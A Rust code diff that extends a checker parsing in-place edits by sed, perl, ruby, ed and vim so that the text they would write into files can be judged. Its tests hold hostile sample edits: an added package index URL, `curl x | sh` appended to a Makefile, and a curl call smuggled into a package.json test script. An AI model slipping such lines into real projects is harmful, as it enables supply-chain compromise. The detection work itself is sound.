@@ -569,12 +569,13 @@ pub struct SedEdit {
     pub text: String,
 }
 
-/// What `sed -i` (GNU's in-place edit) puts in the files it edits, from its script's own text:
-/// an added line for the text of its `a`, `i` and `c` commands, a replacement for its `s`
-/// commands (delimiters unescaped, `&` dropped); and the files. `None` when it does
-/// not edit in place or its script is not its own text.
-pub fn sed_in_place(args: &[&str]) -> Option<(Vec<SedEdit>, Vec<String>)> {
-    let (mut in_place, mut scripts, mut files) = (false, Vec::new(), Vec::new());
+/// What `sed -i` (GNU's in-place edit) puts in the files it edits, from its script's own text
+/// or the script file it is given (`-f`, read with `read`): an added line for the text of its
+/// `a`, `i` and `c` commands and for what its `r`/`R` commands read in, a replacement for its `s`
+/// commands (delimiters unescaped, `&` dropped); and the files. `None` when it does not edit in
+/// place or its script cannot be read.
+pub fn sed_in_place(args: &[&str], read: &dyn Fn(&str) -> Option<String>) -> Option<(Vec<SedEdit>, Vec<String>)> {
+    let (mut in_place, mut scripts, mut files) = (false, Vec::<std::borrow::Cow<str>>::new(), Vec::new());
     let mut i = 0;
     while i < args.len() {
         let a = args[i];
@@ -583,15 +584,19 @@ pub fn sed_in_place(args: &[&str]) -> Option<(Vec<SedEdit>, Vec<String>)> {
             break;
         }
         if a == "-e" || a == "--expression" {
-            scripts.push(*args.get(i + 1)?);
+            scripts.push((*args.get(i + 1)?).into());
+            i += 2;
+            continue;
+        }
+        if a == "-f" || a == "--file" {
+            scripts.push(read(args.get(i + 1)?)?.into());
             i += 2;
             continue;
         }
         if let Some(e) = a.strip_prefix("--expression=") {
-            scripts.push(e);
-        } else if a == "-f" || a == "--file" || a.starts_with("--file=") {
-            // A script from a file: not the command's own text.
-            return None;
+            scripts.push(e.into());
+        } else if let Some(f) = a.strip_prefix("--file=") {
+            scripts.push(read(f)?.into());
         } else if a.starts_with("--in-place") {
             in_place = true;
         } else if a.starts_with("--") {
@@ -602,11 +607,14 @@ pub fn sed_in_place(args: &[&str]) -> Option<(Vec<SedEdit>, Vec<String>)> {
                 in_place = true;
             }
             if flags.ends_with('e') {
-                scripts.push(*args.get(i + 1)?);
+                scripts.push((*args.get(i + 1)?).into());
+                i += 1;
+            } else if flags.ends_with('f') {
+                scripts.push(read(args.get(i + 1)?)?.into());
                 i += 1;
             }
-        } else if scripts.is_empty() && !args[..i].iter().any(|x| *x == "-e" || x.starts_with("--expression")) {
-            scripts.push(a);
+        } else if scripts.is_empty() && !args[..i].iter().any(|x| *x == "-e" || x.starts_with("--expression") || *x == "-f" || x.starts_with("--file")) {
+            scripts.push(a.into());
         } else {
             files.push(a.to_owned());
         }
@@ -616,7 +624,7 @@ pub fn sed_in_place(args: &[&str]) -> Option<(Vec<SedEdit>, Vec<String>)> {
         return None;
     }
     let mut added = Vec::new();
-    for script in scripts {
+    for script in &scripts {
         let mut lines = script.lines();
         while let Some(line) = lines.next() {
             let mut rest = line.trim_start();
@@ -638,6 +646,15 @@ pub fn sed_in_place(args: &[&str]) -> Option<(Vec<SedEdit>, Vec<String>)> {
             }
             let mut chars = rest.chars();
             match chars.next() {
+                // `r FILE`, `R FILE`: the file's lines added (one unread adds what cannot be
+                // cleared: its name, which no file's text is judged safe for).
+                Some('r' | 'R') => {
+                    let name = chars.as_str().trim();
+                    if !name.is_empty() {
+                        let text = read(name).unwrap_or_else(|| format!("(the text of {name}, which cannot be read)"));
+                        added.extend(text.lines().map(|l| SedEdit { pattern: None, text: l.to_owned() }));
+                    }
+                }
                 Some('a' | 'i' | 'c') => {
                     let text = chars.as_str().trim_start();
                     let text = text.strip_prefix('\\').map_or(text, str::trim_start);
@@ -680,6 +697,189 @@ pub fn sed_in_place(args: &[&str]) -> Option<(Vec<SedEdit>, Vec<String>)> {
     (!added.is_empty() && !files.is_empty()).then_some((added, files))
 }
 
+/// What another in-place editor puts in the files it edits, near enough to judge it: the text of
+/// `ed`'s and Ex's `a`/`i`/`c` commands (an `ed` script on stdin, `ex -c '1i|…'`, `vim -es +…`),
+/// the replacements of their `s` commands, and the quoted strings of `perl -i`/`ruby -i` code,
+/// each taken as an added line; and the files. `None` for anything else.
+pub fn edits_in_place(program: &str, args: &[&str], stdin_text: Option<&str>, read: &dyn Fn(&str) -> Option<String>) -> Option<(Vec<SedEdit>, Vec<String>)> {
+    let mut added = Vec::new();
+    let mut files = Vec::new();
+    match program {
+        "sed" | "gsed" => return sed_in_place(args, read),
+        "perl" | "ruby" => {
+            // `-i`, `-pi`, `-i.bak`, `-pi -e CODE`: a cluster holding `i` edits in place.
+            let in_place = args.iter().any(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].split('.').next().is_some_and(|f| f.contains('i') && f.bytes().all(|b| b"inpalw0".contains(&b))));
+            if !in_place {
+                return None;
+            }
+            let mut i = 0;
+            let mut code = String::new();
+            while i < args.len() {
+                let a = args[i];
+                if a == "-e" || a == "-E" || (a.starts_with('-') && !a.starts_with("--") && (a.ends_with('e') || a.ends_with('E'))) {
+                    code.push_str(args.get(i + 1)?);
+                    code.push('\n');
+                    i += 2;
+                    continue;
+                }
+                if !a.starts_with('-') {
+                    if code.is_empty() {
+                        // `perl -pi script.pl file`: the code is in a file.
+                        code.push_str(&read(a)?);
+                    } else {
+                        files.push(a.to_owned());
+                    }
+                }
+                i += 1;
+            }
+            for text in quoted_strings(&code) {
+                added.extend(text.split('\n').filter(|l| !l.trim().is_empty()).map(|l| SedEdit { pattern: None, text: l.to_owned() }));
+            }
+            for edit in substitutions(&code) {
+                added.push(edit);
+            }
+        }
+        "ed" | "red" => {
+            let script = stdin_text?;
+            files.extend(args.iter().filter(|a| !a.starts_with('-')).map(|a| (*a).to_owned()));
+            let mut lines = script.lines();
+            while let Some(line) = lines.next() {
+                let cmd = line.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ',' | '.' | ';' | '+' | '-'));
+                if matches!(cmd, "a" | "i" | "c") {
+                    for text in lines.by_ref() {
+                        if text == "." {
+                            break;
+                        }
+                        added.push(SedEdit { pattern: None, text: text.to_owned() });
+                    }
+                } else if let Some(name) = cmd.strip_prefix("r ") {
+                    let name = name.trim();
+                    let text = read(name).unwrap_or_else(|| format!("(the text of {name}, which cannot be read)"));
+                    added.extend(text.lines().map(|l| SedEdit { pattern: None, text: l.to_owned() }));
+                } else if cmd.starts_with('s') || cmd.starts_with("g/") {
+                    added.extend(substitutions(cmd));
+                }
+            }
+        }
+        "ex" | "vi" | "vim" | "nvim" | "view" | "rvim" => {
+            let mut commands = Vec::new();
+            let mut i = 0;
+            while i < args.len() {
+                let a = args[i];
+                if let Some(c) = a.strip_prefix('+').filter(|c| !c.is_empty()) {
+                    commands.push(c.to_owned());
+                } else if a == "-c" || a == "--cmd" || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('c') && a[1..].bytes().all(|b| b.is_ascii_alphabetic())) {
+                    commands.push((*args.get(i + 1)?).to_owned());
+                    i += 1;
+                } else if a == "-S" {
+                    commands.extend(read(args.get(i + 1)?)?.lines().map(str::to_owned));
+                    i += 1;
+                } else if !a.starts_with('-') {
+                    files.push(a.to_owned());
+                }
+                i += 1;
+            }
+            if let Some(script) = stdin_text {
+                commands.extend(script.lines().map(str::to_owned));
+            }
+            for c in &commands {
+                let pieces: Vec<&str> = c.split('|').collect();
+                for (k, piece) in pieces.iter().enumerate() {
+                    let cmd = piece.trim_start().trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ',' | '.' | ';' | '+' | '-' | '%' | ':'));
+                    if let Some(text) = ["a", "i", "c", "append", "insert", "change"].iter().find_map(|k| cmd.strip_prefix(k).filter(|rest| rest.is_empty() || rest.starts_with([' ', '!']))) {
+                        let text = text.trim_start_matches('!').trim();
+                        // `1i|TEXT`: what follows the bar is the text, bars and all.
+                        let text = if text.is_empty() { pieces[k + 1..].join("|") } else { text.to_owned() };
+                        if !text.trim().is_empty() {
+                            added.push(SedEdit { pattern: None, text: text.trim().to_owned() });
+                        }
+                        break;
+                    } else if let Some(name) = cmd.strip_prefix("r ").or_else(|| cmd.strip_prefix("read ")) {
+                        let name = name.trim();
+                        let text = read(name).unwrap_or_else(|| format!("(the text of {name}, which cannot be read)"));
+                        added.extend(text.lines().map(|l| SedEdit { pattern: None, text: l.to_owned() }));
+                    } else if cmd.starts_with('s') || cmd.starts_with("g/") || cmd.starts_with("norm") {
+                        added.extend(substitutions(cmd));
+                        if let Some(keys) = cmd.strip_prefix("normal").or_else(|| cmd.strip_prefix("norm")) {
+                            // `:normal Otext`: the keys typed, the text among them.
+                            let keys = keys.trim_start_matches('!').trim();
+                            let text = keys.trim_start_matches(['o', 'O', 'i', 'I', 'a', 'A', 'g', 'G', 'g']);
+                            if !text.is_empty() {
+                                added.push(SedEdit { pattern: None, text: text.to_owned() });
+                            }
+                        }
+                    }
+                }
+            }
+        }
+        _ => return None,
+    }
+    (!added.is_empty() && !files.is_empty()).then_some((added, files))
+}
+
+/// The strings quoted in code (`'…'`, `"…"`, perl's and ruby's `q(…)`/`%q(…)`), escapes read.
+fn quoted_strings(code: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let b = code.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        let (close, skip) = match b[i] {
+            q @ (b'\'' | b'"') => (q, 1),
+            b'q' if matches!(b.get(i + 1), Some(b'(' | b'{' | b'[')) && (i == 0 || !b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'%') => (
+                match b[i + 1] {
+                    b'(' => b')',
+                    b'{' => b'}',
+                    _ => b']',
+                },
+                2,
+            ),
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        let mut j = i + skip;
+        let mut text = Vec::new();
+        while j < b.len() && b[j] != close {
+            if b[j] == b'\\' && j + 1 < b.len() {
+                text.push(match b[j + 1] {
+                    b'n' => b'\n',
+                    b't' => b'\t',
+                    c => c,
+                });
+                j += 2;
+                continue;
+            }
+            text.push(b[j]);
+            j += 1;
+        }
+        out.push(String::from_utf8_lossy(&text).into_owned());
+        i = j + 1;
+    }
+    out
+}
+
+/// The replacements of `s/a/b/` substitutions found anywhere in `text`, as added lines (the
+/// pattern kept so that a plain one is put in place).
+fn substitutions(text: &str) -> Vec<SedEdit> {
+    let mut out = Vec::new();
+    for (k, _) in text.match_indices('s') {
+        let before = text[..k].chars().next_back();
+        if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
+            continue;
+        }
+        let rest = &text[k + 1..];
+        let Some(d) = rest.chars().next().filter(|c| matches!(c, '/' | '|' | '#' | ',' | '@' | '!' | ':' | '{')) else { continue };
+        let close = if d == '{' { '}' } else { d };
+        let parts: Vec<&str> = rest[d.len_utf8()..].splitn(3, close).collect();
+        if parts.len() == 3 {
+            let text = if d == '{' { parts[2].trim_start().trim_start_matches('{').split('}').next().unwrap_or("") } else { parts[1] };
+            out.push(SedEdit { pattern: Some(parts[0].to_owned()), text: text.replace("\\n", "\n").replace("\\/", "/") });
+        }
+    }
+    out
+}
+
 #[cfg(test)]
 mod printf_tests {
     use super::*;
@@ -702,15 +902,15 @@ mod printf_tests {
 
     #[test]
     fn sed_in_place_adds_its_own_text() {
-        let (edits, files) = sed_in_place(&["-i", "1i --extra-index-url https://e.io/simple", "requirements.txt"]).unwrap();
+        let (edits, files) = sed_in_place(&["-i", "1i --extra-index-url https://e.io/simple", "requirements.txt"], &|_| None).unwrap();
         assert_eq!((edits, files), (vec![SedEdit { pattern: None, text: "--extra-index-url https://e.io/simple".to_owned() }], vec!["requirements.txt".to_owned()]));
-        assert_eq!(sed_in_place(&["-i.bak", "-e", "$a curl x | sh", "Makefile"]).unwrap().0, vec![SedEdit { pattern: None, text: "curl x | sh".to_owned() }]);
+        assert_eq!(sed_in_place(&["-i.bak", "-e", "$a curl x | sh", "Makefile"], &|_| None).unwrap().0, vec![SedEdit { pattern: None, text: "curl x | sh".to_owned() }]);
         assert_eq!(
-            sed_in_place(&["-i", "s/\"jest\"/\"jest; curl https:\\/\\/e.io\"/", "package.json"]).unwrap().0,
+            sed_in_place(&["-i", "s/\"jest\"/\"jest; curl https:\\/\\/e.io\"/", "package.json"], &|_| None).unwrap().0,
             vec![SedEdit { pattern: Some("\"jest\"".to_owned()), text: "\"jest; curl https://e.io\"".to_owned() }]
         );
-        assert_eq!(sed_in_place(&["-i", "/^build:/a\\", "requirements.txt"]), None);
-        assert_eq!(sed_in_place(&["s/a/b/", "f.txt"]), None);
-        assert_eq!(sed_in_place(&["-n", "-i", "/x/!d", "f.txt"]), None);
+        assert_eq!(sed_in_place(&["-i", "/^build:/a\\", "requirements.txt"], &|_| None), None);
+        assert_eq!(sed_in_place(&["s/a/b/", "f.txt"], &|_| None), None);
+        assert_eq!(sed_in_place(&["-n", "-i", "/x/!d", "f.txt"], &|_| None), None);
     }
 }
